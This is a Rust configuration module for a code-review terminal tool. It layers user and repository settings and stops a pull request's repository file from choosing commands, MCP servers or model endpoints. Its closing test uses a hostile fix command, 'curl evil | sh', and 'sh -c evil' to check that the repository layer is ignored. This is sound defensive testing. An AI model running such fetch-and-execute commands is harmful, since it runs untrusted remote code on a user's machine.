//! Configuration, in layers: built-in defaults, then the user's `config.toml`, then the
//! repository's `.review-tui.toml` **as it is on the base branch** (a PR must not rewrite its own
//! reviewer's rules), then flags. Each layer is read as all-optional fields and laid over the
//! previous one, so a later layer changes only what it names.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::Deserialize;
use thiserror::Error;

use crate::review::level::Level;
use crate::review::node::{Priority, Severity};

// `review-tui config show`: what is in effect and where each value comes from.
pub(crate) mod show;
pub use show::show;

// Model reviewers' settings (the `models` helper's block).
pub(crate) mod models;
pub use models::{ModelChoice, ModelsLayer, PromptsLayer};

// `[[context.mcp]]`: MCP servers the reviewers may consult (user file only).
pub(crate) mod context;

// `[api_contract] advisory`: where the API-break check warns instead of gating.
pub(crate) mod api_advisory;
pub use api_advisory::{Advisory, AdvisoryScope, ApiContractLayer};
pub use context::{ContextLayer, McpSource};

/// The file name of the repository layer, read from the base revision.
pub const REPO_FILE: &str = ".review-tui.toml";

#[derive(Debug, Error)]
pub enum ConfigError {
    #[error("{origin}: {reason}")]
    Invalid { origin: String, reason: String },
    #[error("could not read {path}: {source}")]
    Read {
        path: String,
        #[source]
        source: std::io::Error,
    },
}

/// The effective configuration.
#[derive(Debug, Clone, PartialEq)]
pub struct Config {
    pub level: Level,
    pub theme: String,
    /// Post APPROVE when the verdict is Ship (false posts COMMENT).
    pub approve_on_ship: bool,
    /// Non-blocking findings of these severities are folded into one line each in the summary.
    pub collapse: Vec<Severity>,
    /// Rule ids switched off.
    pub disabled_rules: Vec<String>,
    /// Rules that ship switched off, switched on (`[rules] enable`).
    pub enabled_rules: Vec<String>,
    /// Rule id → priority overrides.
    pub rule_priorities: BTreeMap<String, Priority>,
    /// `[rules] skip`: globs of vendored/generated paths (see [`RulesLayer::skip`]).
    pub skip_paths: Vec<String>,
    /// `[api_contract]`: the paths and languages whose public API the repository (or the
    /// person) declared advisory, each with who declared it (see `api_advisory`).
    pub api_advisory: Vec<api_advisory::Advisory>,
    /// Extra instructions for the reviewers, from the repository (base branch) layer.
    pub instructions: String,
    /// The gate's fix command (`[fix] command = "claude -p"`), run through `sh -c` with a
    /// finding's fix prompt on stdin (see `crate::session::fix::run_fix_command`). Only the user's
    /// config sets it: a repository's file must not choose a command to run on your machine.
    pub fix_command: Option<String>,
    /// `[editor] open_at`: how the person's editor opens a file at a line, `{file}` and
    /// `{line}` marking where they go (`code -g {file}:{line}`); `None`: `$VISUAL +LINE FILE`.
    /// User file only, like the fix command: a repository must not choose what runs.
    pub editor_open_at: Option<String>,
    /// `[cache] max_age`: how long an unopened space keeps its worktree and caches when
    /// `review-tui gc` runs (a duration, checked there). User file only.
    pub cache_max_age: Option<String>,
    /// `[cache] max_tag_store`: the size a mirror's symbol tag store is trimmed to when
    /// `review-tui gc` runs (a size, checked there; unset: no size bound). User file only.
    pub cache_max_tag_store: Option<String>,
    /// Where each value came from, for `--show-config` style output and error messages.
    pub sources: Vec<String>,
    // Model reviewers (user file only; see `models`).
    pub models: ModelsLayer,
    pub prompts: PromptsLayer,
    /// How GitHub is called (user file only): timeouts and retries.
    pub github: GithubLayer,
    /// Which GitLab hosts are known and how they are called (user file only).
    pub gitlab: HostedForgeLayer,
    /// Which Gitea and Forgejo hosts are known and how they are called (user file only).
    pub gitea: HostedForgeLayer,
    /// `[inbox]`: which sections the inbox shows and which repositories and organisations its
    /// forge searches are scoped to (user file only).
    pub inbox: InboxLayer,
    /// A gitleaks configuration file the person chose for the secret scan (`[secrets]
    /// gitleaks_config`, user file only; gitleaks' own `GITLEAKS_CONFIG` still wins), with the
    /// file that named it.
    pub gitleaks_config: Option<(PathBuf, String)>,
    /// `[[context.mcp]]`: the MCP servers the model reviewers may consult. User file only.
    pub context_mcp: Vec<McpSource>,
    /// What was ignored on the way, for the report's coverage notes.
    pub notes: Vec<String>,
}

impl Default for Config {
    fn default() -> Self {
        Config {
            level: Level::Balanced,
            theme: "dark".into(),
            approve_on_ship: true,
            collapse: Vec::new(),
            disabled_rules: Vec::new(),
            enabled_rules: Vec::new(),
            rule_priorities: BTreeMap::new(),
            skip_paths: Vec::new(),
            api_advisory: Vec::new(),
            instructions: String::new(),
            fix_command: None,
            editor_open_at: None,
            cache_max_age: None,
            cache_max_tag_store: None,
            sources: vec!["built-in defaults".into()],
            models: ModelsLayer::default(),
            prompts: PromptsLayer::new(),
            github: GithubLayer::default(),
            gitlab: HostedForgeLayer::default(),
            gitea: HostedForgeLayer::default(),
            inbox: InboxLayer::default(),
            gitleaks_config: None,
            context_mcp: Vec::new(),
            notes: Vec::new(),
        }
    }
}

/// One layer as written in a file: every field optional.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct Layer {
    pub level: Option<Level>,
    pub theme: Option<String>,
    #[serde(default)]
    pub publish: Option<PublishLayer>,
    #[serde(default)]
    pub presentation: Option<PresentationLayer>,
    #[serde(default)]
    pub rules: Option<RulesLayer>,
    #[serde(default)]
    pub review: Option<ReviewLayer>,
    #[serde(default)]
    pub api_contract: Option<ApiContractLayer>,
    #[serde(default)]
    pub fix: Option<FixLayer>,
    #[serde(default)]
    pub cache: Option<CacheLayer>,
    #[serde(default)]
    pub editor: Option<EditorLayer>,
    // Model reviewers (user file only; see `models`).
    #[serde(default)]
    pub models: Option<ModelsLayer>,
    #[serde(default)]
    pub prompts: Option<PromptsLayer>,
    #[serde(default)]
    pub github: Option<GithubLayer>,
    #[serde(default)]
    pub gitlab: Option<HostedForgeLayer>,
    #[serde(default)]
    pub gitea: Option<HostedForgeLayer>,
    #[serde(default)]
    pub inbox: Option<InboxLayer>,
    pub secrets: Option<SecretsLayer>,
    #[serde(default)]
    pub context: Option<ContextLayer>,
}

/// The part of a layer a repository's `.review-tui.toml` may set: how deep to review, how the
/// round reads and is published, the rules and the instructions. Nothing here runs a command,
/// chooses where a key goes or reads a file on the reviewer's machine.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct SharedLayer {
    pub level: Option<Level>,
    pub theme: Option<String>,
    pub publish: Option<PublishLayer>,
    pub presentation: Option<PresentationLayer>,
    pub rules: Option<RulesLayer>,
    pub review: Option<ReviewLayer>,
    pub api_contract: Option<ApiContractLayer>,
}

/// The part only the person's own file may set: the commands it runs (fix, editor), the cache
/// it keeps, the model endpoints its keys go to, the prompt and gitleaks files it reads, and how
/// GitHub is called.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct PersonalLayer {
    pub fix: Option<FixLayer>,
    pub cache: Option<CacheLayer>,
    pub editor: Option<EditorLayer>,
    pub models: Option<ModelsLayer>,
    pub prompts: Option<PromptsLayer>,
    pub github: Option<GithubLayer>,
    pub gitlab: Option<HostedForgeLayer>,
    pub gitea: Option<HostedForgeLayer>,
    pub inbox: Option<InboxLayer>,
    pub secrets: Option<SecretsLayer>,
    pub context: Option<ContextLayer>,
}

impl PersonalLayer {
    /// The sections present, as written in the file.
    fn sections(&self) -> Vec<&'static str> {
        [
            (self.fix.is_some(), "[fix]"),
            (self.cache.is_some(), "[cache]"),
            (self.editor.is_some(), "[editor]"),
            (self.models.is_some(), "[models]"),
            (self.prompts.is_some(), "[prompts]"),
            (self.github.is_some(), "[github]"),
            (self.gitlab.is_some(), "[gitlab]"),
            (self.gitea.is_some(), "[gitea]"),
            (self.inbox.is_some(), "[inbox]"),
            (self.secrets.is_some(), "[secrets]"),
            (self.context.is_some(), "[context]"),
        ]
        .into_iter()
        .filter_map(|(present, name)| present.then_some(name))
        .collect()
    }
}

/// A repository's layer, read at the PR's base: its shared part only. What it tried to set
/// beyond that is named (to say it was ignored), never kept: the type cannot carry it.
#[derive(Debug, Clone, Default, PartialEq)]
pub struct RepoLayer {
    pub shared: SharedLayer,
    pub ignored: Vec<&'static str>,
    /// The MCP servers it declared, by name: refused, and said so on a line of their own.
    pub refused_mcp: Vec<String>,
}

impl Layer {
    /// The layer's two parts: what any file may set and what only the person's own may.
    pub fn split(self) -> (SharedLayer, PersonalLayer) {
        let Layer {
            level,
            theme,
            publish,
            presentation,
            rules,
            review,
            api_contract,
            fix,
            cache,
            editor,
            models,
            prompts,
            github,
            gitlab,
            gitea,
            inbox,
            secrets,
            context,
        } = self;
        (
            SharedLayer {
                level,
                theme,
                publish,
                presentation,
                rules,
                review,
                api_contract,
            },
            PersonalLayer {
                fix,
                cache,
                editor,
                models,
                prompts,
                github,
                gitlab,
                gitea,
                inbox,
                secrets,
                context,
            },
        )
    }

    /// This layer as a repository's: the personal sections dropped and named.
    pub fn into_repo(self) -> RepoLayer {
        let (shared, personal) = self.split();
        let refused_mcp = personal
            .context
            .iter()
            .flat_map(|c| c.mcp.iter().map(|s| s.name.clone()))
            .collect();
        RepoLayer {
            shared,
            ignored: personal.sections(),
            refused_mcp,
        }
    }
}

/// `[secrets]`: which gitleaks configuration the secret scan uses.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct SecretsLayer {
    /// A gitleaks configuration file (`~/` is the home directory); stands instead of the
    /// repository's `.gitleaks.toml`, as gitleaks' `GITLEAKS_CONFIG` does.
    pub gitleaks_config: Option<String>,
}

/// `[github]`: how the GitHub API is called. Durations are humantime (`"30s"`, `"2m"`).
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct GithubLayer {
    /// Per request, reading the whole answer included (default 60s).
    pub request_timeout: Option<String>,
    /// Tries per call, the first included (default 4).
    pub max_attempts: Option<u32>,
    /// The first wait between tries (default 1s); it doubles each time.
    pub backoff: Option<String>,
    /// The longest single wait, whatever GitHub asks (default 60s). A rate limit that resets
    /// later than this fails at once, saying when it resets.
    pub max_wait: Option<String>,
    /// The login the token acts as (`my-app[bot]`), for tokens GitHub will not name through
    /// `GET /user` (GitHub App installation tokens).
    pub login: Option<String>,
    /// The API every PR is read through (as `--api-url`), whatever host its URL names.
    pub api_url: Option<String>,
    /// `[github.hosts."ghe.corp"] api_url = "https://ghe.corp/api/v3"`: the hosts besides
    /// github.com whose PRs may be read, and so the only ones the token is sent to.
    #[serde(default)]
    pub hosts: BTreeMap<String, GithubHostLayer>,
}

/// One `[github.hosts."HOST"]` entry.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct GithubHostLayer {
    pub api_url: String,
}

impl GithubLayer {
    fn merge(&mut self, over: GithubLayer) {
        self.api_url = over.api_url.or(self.api_url.take());
        self.hosts.extend(over.hosts);
        self.login = over.login.or(self.login.take());
        self.request_timeout = over.request_timeout.or(self.request_timeout.take());
        self.max_attempts = over.max_attempts.or(self.max_attempts.take());
        self.backoff = over.backoff.or(self.backoff.take());
        self.max_wait = over.max_wait.or(self.max_wait.take());
    }
}

/// `[gitlab]`, `[gitea]`: a forge reached by host. Its public host (gitlab.com, codeberg.org)
/// is known without this; `hosts` names the others whose pull requests may be read, and so the
/// only ones a token is sent to. Durations are humantime (`"30s"`, `"2m"`).
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct HostedForgeLayer {
    /// `hosts = ["git.corp.example"]`: self-managed hosts, API at the forge's usual path.
    #[serde(default)]
    pub hosts: Vec<String>,
    /// `[gitlab.host."git.corp.example"]`: one host's API address and where its token is.
    #[serde(default)]
    pub host: BTreeMap<String, ForgeHostLayer>,
    /// Per request, reading the whole answer included (default 60s).
    pub request_timeout: Option<String>,
    /// Tries per call, the first included (default 4).
    pub max_attempts: Option<u32>,
    /// The first wait between tries (default 1s); it doubles each time.
    pub backoff: Option<String>,
    /// The longest single wait, whatever the forge asks (default 60s).
    pub max_wait: Option<String>,
}

/// One `[gitlab.host."HOST"]` / `[gitea.host."HOST"]` entry: naming a host here makes it known
/// as well.
#[derive(Debug, Clone, Default, PartialEq, Eq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ForgeHostLayer {
    /// The API's address, when not the forge's usual one on that host.
    pub api_url: Option<String>,
    /// The environment variable holding this host's token (never the token itself: the file
    /// may be shared or backed up).
    pub token_env: Option<String>,
}

impl HostedForgeLayer {
    fn merge(&mut self, over: HostedForgeLayer) {
        for host in over.hosts {
            if !self.hosts.contains(&host) {
                self.hosts.push(host);
            }
        }
        self.host.extend(over.host);
        self.request_timeout = over.request_timeout.or(self.request_timeout.take());
        self.max_attempts = over.max_attempts.or(self.max_attempts.take());
        self.backoff = over.backoff.or(self.backoff.take());
        self.max_wait = over.max_wait.or(self.max_wait.take());
    }
}

/// `[cache]`: what `review-tui gc` keeps: how long an unopened review space keeps its worktree
/// and caches, and how large a mirror's symbol tag store may grow.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct CacheLayer {
    pub max_age: Option<String>,
    pub max_tag_store: Option<String>,
}

/// `[inbox]`: what the inbox lists. `sections` names the sections shown, in order
/// (`requested`, `mine`, `spaces`; default: all three); `repos` (`OWNER/REPO`) and `orgs`
/// scope the forges' searches (default: everything the account can see).
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct InboxLayer {
    pub sections: Option<Vec<String>>,
    #[serde(default)]
    pub repos: Vec<String>,
    #[serde(default)]
    pub orgs: Vec<String>,
}

impl InboxLayer {
    fn merge(&mut self, over: InboxLayer) {
        if over.sections.is_some() {
            self.sections = over.sections;
        }
        for repo in over.repos {
            if !self.repos.contains(&repo) {
                self.repos.push(repo);
            }
        }
        for org in over.orgs {
            if !self.orgs.contains(&org) {
                self.orgs.push(org);
            }
        }
    }
}

/// `[fix]`: the command the approval gate hands fix prompts to.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct FixLayer {
    pub command: Option<String>,
}

/// `[editor]`: how the cockpit's `O` opens a file at a line in the person's editor.
#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct EditorLayer {
    pub open_at: Option<String>,
}

#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PublishLayer {
    pub approve_on_ship: Option<bool>,
}

#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct PresentationLayer {
    pub collapse: Option<Vec<Severity>>,
}

#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct RulesLayer {
    #[serde(default)]
    pub disable: Vec<String>,
    /// Rules that ship switched off (`enabled = false`: measured too imprecise) to switch on,
    /// and rules asked only where the project asks (`asked_by`) to ask everywhere.
    #[serde(default)]
    pub enable: Vec<String>,
    #[serde(default)]
    pub priority: BTreeMap<String, Priority>,
    /// Path globs of vendored or generated code the rules other than security rules do not
    /// read. Only configuration decides this (the base branch's file, or the person's), never
    /// the PR's own paths.
    #[serde(default)]
    pub skip: Vec<String>,
}

#[derive(Debug, Clone, Default, PartialEq, Deserialize)]
#[serde(deny_unknown_fields)]
pub struct ReviewLayer {
    pub instructions: Option<String>,
}

impl Layer {
    /// Parses a layer; `origin` names the file (or "the base branch's .review-tui.toml") in
    /// errors, which also name the line and the key: `config.toml: line 4, [models]
    /// concurrency: invalid type: string "three", expected usize`.
    pub fn parse(text: &str, origin: &str) -> Result<Layer, ConfigError> {
        let invalid = |reason: String| ConfigError::Invalid {
            origin: origin.to_string(),
            reason,
        };
        let document = toml::Deserializer::parse(text)
            .map_err(|e| invalid(format!("{}{}", line_of(text, e.span()), e.message())))?;
        let layer: Layer = serde_path_to_error::deserialize(document).map_err(|e| {
            let key = show::key_name(&e.path().to_string());
            let inner = e.into_inner();
            invalid(format!(
                "{}{key}{}",
                line_of(text, inner.span()),
                inner.message()
            ))
        })?;
        layer
            .context
            .as_ref()
            .map_or(Ok(()), ContextLayer::check)
            .and_then(|()| layer.check())
            .map_err(|(key, why)| {
                let (line, name) = (show::line_of_key(text, &key), show::key_name(&key));
                invalid(format!("{line}{name}{why}"))
            })?;
        Ok(layer)
    }

    /// Values the types allow but that mean nothing: (dotted key, why).
    fn check(&self) -> Result<(), (String, String)> {
        let models = self.models.as_ref();
        let github = self.github.as_ref();
        if let Some(api) = &self.api_contract {
            api.check()?;
        }
        for (key, value) in [
            (
                "models.concurrency",
                models.and_then(|m| m.concurrency.map(|n| n as u64)),
            ),
            (
                "models.max_attempts",
                models.and_then(|m| m.max_attempts.map(u64::from)),
            ),
            (
                "github.max_attempts",
                github.and_then(|g| g.max_attempts.map(u64::from)),
            ),
            (
                "gitlab.max_attempts",
                self.gitlab
                    .as_ref()
                    .and_then(|g| g.max_attempts.map(u64::from)),
            ),
            (
                "gitea.max_attempts",
                self.gitea
                    .as_ref()
                    .and_then(|g| g.max_attempts.map(u64::from)),
            ),
        ] {
            if value == Some(0) {
                return Err((key.to_string(), "must be at least 1".to_string()));
            }
        }
        Ok(())
    }
}

/// The one line that says a repository's file declared MCP servers and that none was started.
pub fn refused_mcp_line(origin: &str, names: &[String]) -> String {
    format!(
        "{origin} declares MCP servers ({}); refused: a repository cannot start a context \
         source on your machine, declare it in your own config file ([[context.mcp]])",
        names.join(", ")
    )
}

/// `line N, ` for a byte span of `text`, or nothing when the error has no place.
fn line_of(text: &str, span: Option<std::ops::Range<usize>>) -> String {
    span.map(|span| {
        let start = span.start.min(text.len());
        format!("line {}, ", text[..start].matches('\n').count() + 1)
    })
    .unwrap_or_default()
}

impl Config {
    /// Whether any `[rules]` setting names rules or paths: only then can laying this
    /// configuration over the rule catalog find a selector that names nothing, so only then
    /// is the catalog worth compiling to check it.
    pub fn tunes_rules(&self) -> bool {
        !(self.enabled_rules.is_empty()
            && self.disabled_rules.is_empty()
            && self.rule_priorities.is_empty()
            && self.skip_paths.is_empty())
    }

    /// Lays the person's own `layer` (every section) over this configuration.
    pub fn apply(&mut self, layer: Layer, origin: &str) {
        let (shared, personal) = layer.split();
        self.apply_shared(shared, AdvisoryScope::Person);
        self.apply_personal(personal, origin);
        self.sources.push(origin.to_string());
    }

    /// Lays a repository's layer over this configuration: its shared part, and a note naming
    /// each personal section it tried to set.
    pub fn apply_repo(&mut self, layer: RepoLayer, origin: &str) {
        if !layer.refused_mcp.is_empty() {
            self.notes
                .push(refused_mcp_line(origin, &layer.refused_mcp));
        }
        if !layer.ignored.is_empty() {
            self.notes.push(format!(
                "{origin} sets {}; ignored: only the user's config file may choose models, \
                 prompt files, how GitHub is called, which file configures the secret scan, \
                 which commands run (fix, editor), the context sources and the cache",
                layer.ignored.join(", ")
            ));
        }
        self.apply_shared(layer.shared, AdvisoryScope::Repository);
        self.sources.push(origin.to_string());
    }

    fn apply_shared(&mut self, layer: SharedLayer, declarer: AdvisoryScope) {
        if let Some(api) = layer.api_contract {
            for advisory in api.advisories(declarer) {
                if !self.api_advisory.contains(&advisory) {
                    self.api_advisory.push(advisory);
                }
            }
        }
        if let Some(level) = layer.level {
            self.level = level;
        }
        if let Some(theme) = layer.theme {
            self.theme = theme;
        }
        if let Some(approve) = layer.publish.and_then(|p| p.approve_on_ship) {
            self.approve_on_ship = approve;
        }
        if let Some(collapse) = layer.presentation.and_then(|p| p.collapse) {
            self.collapse = collapse;
        }
        if let Some(rules) = layer.rules {
            for id in rules.disable {
                if !self.disabled_rules.contains(&id) {
                    self.disabled_rules.push(id);
                }
            }
            for id in rules.enable {
                if !self.enabled_rules.contains(&id) {
                    self.enabled_rules.push(id);
                }
            }
            self.rule_priorities.extend(rules.priority);
            for glob in rules.skip {
                if !self.skip_paths.contains(&glob) {
                    self.skip_paths.push(glob);
                }
            }
        }
        if let Some(instructions) = layer.review.and_then(|r| r.instructions) {
            self.instructions = instructions;
        }
    }

    fn apply_personal(&mut self, layer: PersonalLayer, origin: &str) {
        if let Some(command) = layer.fix.and_then(|f| f.command) {
            let command = command.trim().to_string();
            self.fix_command = (!command.is_empty()).then_some(command);
        }
        if let Some(open_at) = layer.editor.and_then(|e| e.open_at) {
            let open_at = open_at.trim().to_string();
            self.editor_open_at = (!open_at.is_empty()).then_some(open_at);
        }
        if let Some(cache) = layer.cache {
            if let Some(max_age) = cache.max_age {
                self.cache_max_age = Some(max_age.trim().to_string());
            }
            if let Some(max_tag_store) = cache.max_tag_store {
                self.cache_max_tag_store = Some(max_tag_store.trim().to_string());
            }
        }
        if let Some(models) = layer.models {
            self.models.merge(models);
        }
        if let Some(prompts) = layer.prompts {
            self.prompts.extend(prompts);
        }
        if let Some(github) = layer.github {
            self.github.merge(github);
        }
        if let Some(gitlab) = layer.gitlab {
            self.gitlab.merge(gitlab);
        }
        if let Some(inbox) = layer.inbox {
            self.inbox.merge(inbox);
        }
        if let Some(gitea) = layer.gitea {
            self.gitea.merge(gitea);
        }
        if let Some(context) = layer.context {
            self.context_mcp = context.mcp;
        }
        if let Some(path) = layer.secrets.and_then(|s| s.gitleaks_config) {
            let path = path.trim();
            self.gitleaks_config = (!path.is_empty()).then(|| {
                (
                    expand_home(path),
                    format!("{origin} [secrets] gitleaks_config"),
                )
            });
        }
    }
}

/// The user's config file: `$XDG_CONFIG_HOME/review-tui/config.toml` or the platform's
/// equivalent; `REVIEW_TUI_CONFIG` overrides it.
pub fn user_config_path() -> Option<PathBuf> {
    if let Some(path) = std::env::var_os("REVIEW_TUI_CONFIG") {
        return Some(PathBuf::from(path));
    }
    directories::ProjectDirs::from("", "", "review-tui").map(|d| d.config_dir().join("config.toml"))
}

/// Reads a layer from a file; a missing file is no layer, not an error.
pub fn read_layer(path: &Path) -> Result<Option<Layer>, ConfigError> {
    match std::fs::read_to_string(path) {
        Ok(text) => Layer::parse(&text, &path.display().to_string()).map(Some),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(None),
        Err(source) => Err(ConfigError::Read {
            path: path.display().to_string(),
            source,
        }),
    }
}

/// Reads `.review-tui.toml` from a commit (the PR's base) in a repository, never from the
/// worktree at the head: the change under review must not configure its own reviewer.
pub fn repo_layer_at(
    repo: &git2::Repository,
    commit_sha: &str,
) -> Result<Option<RepoLayer>, ConfigError> {
    let origin = format!("{REPO_FILE} at the base revision {}", short(commit_sha));
    let invalid = |reason: String| ConfigError::Invalid {
        origin: origin.clone(),
        reason,
    };
    let oid = git2::Oid::from_str(commit_sha).map_err(|e| invalid(e.message().to_string()))?;
    let tree = repo
        .find_commit(oid)
        .and_then(|c| c.tree())
        .map_err(|e| invalid(e.message().to_string()))?;
    let Ok(entry) = tree.get_path(Path::new(REPO_FILE)) else {
        return Ok(None);
    };
    let blob = repo
        .find_blob(entry.id())
        .map_err(|e| invalid(e.message().to_string()))?;
    let text = std::str::from_utf8(blob.content())
        .map_err(|_| invalid("is not UTF-8 text".to_string()))?;
    Layer::parse(text, &origin).map(|layer| Some(layer.into_repo()))
}

/// `~/x` as the home directory's `x`; any other path as written.
fn expand_home(path: &str) -> PathBuf {
    match (path.strip_prefix("~/"), directories::BaseDirs::new()) {
        (Some(rest), Some(dirs)) => dirs.home_dir().join(rest),
        _ => PathBuf::from(path),
    }
}

fn short(sha: &str) -> &str {
    &sha[..sha.len().min(12)]
}

#[cfg(test)]
mod tests;

/// The defaults with the user's file laid over them: what is known before the PR is read.
pub fn load_user() -> Result<Config, ConfigError> {
    let mut config = Config::default();
    if let Some(path) = user_config_path()
        && let Some(layer) = read_layer(&path)?
    {
        config.apply(layer, &path.display().to_string());
    }
    Ok(config)
}

impl Config {
    /// Lays the repository's file, as it is at `base_sha`, over this configuration (once the
    /// PR's space exists), keeping what only the user's file may set.
    pub fn apply_repository(
        &mut self,
        repo: &git2::Repository,
        base_sha: &str,
    ) -> Result<(), ConfigError> {
        if let Some(layer) = repo_layer_at(repo, base_sha)? {
            self.apply_repo(layer, &format!("{REPO_FILE} at the base revision"));
        }
        Ok(())
    }
}

#[cfg(test)]
mod fix_command_tests {
    use super::*;

    #[test]
    fn the_fix_command_comes_from_the_user_layer_never_the_repository() {
        let mut config = Config::default();
        let layer = Layer::parse(
            "[fix]\ncommand = \"claude -p\"\n[editor]\nopen_at = \"code -g {file}:{line}\"\n",
            "config.toml",
        )
        .unwrap();
        config.apply(layer, "/home/me/.config/review-tui/config.toml");
        assert_eq!(config.fix_command.as_deref(), Some("claude -p"));
        let repo = Layer::parse(
            "[fix]\ncommand = \"curl evil | sh\"\n[editor]\nopen_at = \"sh -c evil\"\n",
            REPO_FILE,
        )
        .unwrap();
        config.apply_repo(
            repo.into_repo(),
            &format!("{REPO_FILE} at the base revision"),
        );
        assert_eq!(config.fix_command.as_deref(), Some("claude -p"));
        assert!(
            config
                .notes
                .iter()
                .any(|n| n.contains("[fix], [editor]; ignored")),
            "{:?}",
            config.notes
        );
        assert_eq!(
            config.editor_open_at.as_deref(),
            Some("code -g {file}:{line}")
        );
        assert!(Layer::parse("[fix]\ncmd = \"x\"\n", "config.toml").is_err());
    }
}
